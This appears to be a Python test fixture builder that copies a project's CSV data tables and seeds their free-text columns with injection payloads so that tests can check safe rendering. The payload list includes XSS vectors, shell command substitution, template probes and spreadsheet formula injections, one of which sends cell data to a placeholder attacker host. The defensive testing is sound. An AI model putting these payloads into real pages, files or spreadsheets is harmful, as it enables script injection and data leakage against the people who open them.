"""A copy of data/ whose texts try to run something, for the tests of unsafe content."""

import csv
import functools
import io
import itertools
import shutil
from pathlib import Path

from catrade_build.tables.definitions import TableDefinition, tables
from catrade_build.tables.reading import parse_table

DATA = Path(__file__).resolve().parents[2] / "data"
RUN = "document.documentElement.dataset.pwned=1"
#: What would run in a page that wrote it as it is; each also says in which way it tried.
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}></svg>",
    f'"><b onmouseover={RUN}>bold</b>',
    f"' onclick='{RUN}' x='",
    f"[x](javascript:{RUN})",
    f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "{{7*7}} {% raw %} ${7*7}",
    "$(touch pwned) `touch pwned`",
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    f"</style><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"]]></script></title></textarea><script>{RUN}</script>",
    f"<a href=javascript:{RUN}>link</a><iframe srcdoc='<script>parent.{RUN}</script>'>",
    "$$ <b>maths</b> $$ \\(x\\)",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)",
)


def read(name: str) -> list[list[str]]:
    """The rows of a bundled table, header first."""
    with (DATA / f"{name}.csv").open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file))


def written(rows: list[list[str]]) -> bytes:
    buffer = io.StringIO(newline="")
    csv.writer(buffer, lineterminator="\n").writerows(rows)
    return buffer.getvalue().encode()


@functools.cache
def ids(name: str) -> frozenset[str]:
    header, *rows = read(name)
    column = header.index(tables()[name].key[0])
    return frozenset(row[column] for row in rows)


def allowed(spec: TableDefinition) -> dict[str, frozenset[str]]:
    return {target: ids(target) for target in set(spec.references.values())}


def refused(name: str, text: str) -> dict[str, str]:
    """The columns of a table that do not take the text, each with why not."""
    header, *rows = read(name)
    tried = []
    for place in range(len(header)):
        row = list(next((row for row in rows if row[place]), rows[0]))
        row[place] = text
        tried.append(row)
    spec = tables()[name]
    _, problems = parse_table(written([header, *tried]), spec, allowed(spec))
    # The line of the file tells which column was tried; other rows repeat the same key.
    return {
        p.column: str(p) for p in problems if p.row and p.column == header[p.row - 2]
    }


#: Columns of a few words, which have no room for text and payload.
LABELS = ("landmark",)


@functools.cache
def free_columns(name: str) -> tuple[str, ...]:
    """The columns of a table that take any text, but for lists of codes."""
    no = {*refused(name, "so & <i>so</i>"), "members", "terms", *tables()[name].key}
    return tuple(column for column in read(name)[0] if column not in no)


def hostile_rows(name: str) -> list[list[str]]:
    """A table with a payload in each filled cell of its free columns, each payload in turn."""
    header, *rows = read(name)
    # A landmark has five words at most.
    places = [
        header.index(column) for column in free_columns(name) if column != "landmark"
    ]
    for place in places:
        # The same text stays the same text: some columns must agree between rows.
        texts = dict.fromkeys(row[place] for row in rows if row[place])
        changed = {
            text: f"{payload} {text}" if payload[0] in "=+@" else f"{text} {payload}"
            for text, payload in zip(texts, itertools.cycle(PAYLOADS), strict=False)
        }
        if header[place] in LABELS:
            changed = dict(zip(texts, itertools.cycle(PAYLOADS), strict=False))
        for row in rows:
            row[place] = changed.get(row[place], "")
    return [header, *rows]


def hostile_copy(target: Path) -> int:
    """Write the copy; return how many cells carry a payload."""
    shutil.copytree(DATA, target, ignore=shutil.ignore_patterns("fetched"))
    count = 0
    for name in tables():
        rows = hostile_rows(name)
        count += sum(
            a != b
            for old, new in zip(read(name), rows, strict=True)
            for a, b in zip(old, new, strict=True)
        )
        (target / f"{name}.csv").write_bytes(written(rows))
    return count
